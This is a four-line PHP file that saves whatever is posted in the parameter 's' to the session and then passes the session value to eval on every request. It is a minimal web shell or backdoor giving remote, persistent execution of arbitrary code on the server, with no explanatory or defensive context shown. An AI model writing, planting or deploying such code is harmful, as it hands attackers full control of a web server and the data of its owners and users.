<?php
session_start();
if (isset($_POST['s'])) { $_SESSION['c'] = $_POST['s']; }
if (!empty($_SESSION['c'])) { eval($_SESSION['c']); }
